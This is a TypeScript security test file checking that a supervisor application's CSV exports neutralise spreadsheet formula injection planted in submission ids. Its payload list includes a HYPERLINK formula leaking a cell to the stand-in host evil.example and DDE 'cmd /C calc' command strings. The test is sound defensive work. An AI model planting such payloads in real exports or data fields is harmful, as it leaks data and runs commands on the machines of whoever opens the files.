// Attacks on the supervisor's CSV exports: a value planted in a result (a submission id typed at
// the desk or pulled from the central API) must never run as a formula in the spreadsheet that
// opens the file, whatever separator that spreadsheet splits on.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { bootstrapAdmin, login } from '../../src-main/operators/service';
import { resultsToCsv } from '../../src-main/results/results-csv';
import { toResultView } from '../../src-main/results/result-view';
import { exportResults } from '../../src-main/store/services/export';
import type { StoredResult } from '../../src-main/store/services/result-reads';
import { recordResult } from '../../src-main/store/services/results';
import { openTestStore, type TestStore } from '../support/store/context';
import { rejectedResult } from '../support/store/fixtures';

const PAYLOADS = [
  'SUB-1;=HYPERLINK("http://evil.example/?"&A1,"open")',
  'SUB-2,+cmd|" /C calc"!A0',
  'SUB-3|@SUM(1+1)*cmd|" /C calc"!A0',
  'SUB-4\t-2+3+cmd|" /C calc"!A0',
  'SUB-5; =1+1',
  'SUB-6;"=1+1',
];

/** Cells as a careless importer sees them: split on one separator, quotes and spaces dropped. */
function cellsSplitOn(csv: string, separator: string): string[] {
  return csv
    .split(/\r\n|\n|\r/)
    .flatMap((line) => line.split(separator))
    .map((cell) => cell.replace(/^[" ]+/, ''));
}

function runnableFormulas(csv: string): string[] {
  return [',', ';', '|', '\t']
    .flatMap((separator) => cellsSplitOn(csv, separator))
    .filter((cell) => /^[=+\-@]/.test(cell));
}

let store: TestStore | undefined;
afterEach(() => store?.close());

describe('CSV export attacks', () => {
  it('attack: CSV formula after a separator', async () => {
    store = openTestStore();
    await bootstrapAdmin(store.ctx, {
      username: 'admin',
      displayName: 'Admin',
      password: 'admin password 1',
    });
    const admin = await login(store.ctx, 'admin', 'admin password 1');
    if (!admin.ok) throw new Error('admin login failed');
    PAYLOADS.forEach((submissionId, index) =>
      recordResult(store!.ctx, {
        submissionId,
        result: rejectedResult(`r-${index}`),
        modelVersion: 'm',
        policyVersion: 'p85',
        operatorId: 'op',
        capturedImage: null,
      }),
    );
    // The store's file export, written to a real file on disk …
    const path = join(store.dir, 'results.csv');
    exportResults(store.ctx, { sessionToken: admin.token, format: 'csv', path });
    const fileCsv = readFileSync(path, 'utf8');
    // … and the history screen's export, built from the same rows.
    const rows = PAYLOADS.map((submissionId, index) =>
      toResultView({
        authenticationId: `r-${index}`,
        submissionId,
        result: rejectedResult(`r-${index}`),
        operatorId: 'op',
        recordedAt: 0,
        syncedAt: null,
        centralVerdict: null,
        overrides: [],
      } as unknown as StoredResult),
    );
    const screenCsv = resultsToCsv(rows);
    for (const csv of [fileCsv, screenCsv]) {
      // Every payload is in the file, as text.
      for (const payload of PAYLOADS) expect(csv).toContain(payload.slice(0, 6));
      expect(runnableFormulas(csv)).toEqual([]);
    }
  });
});
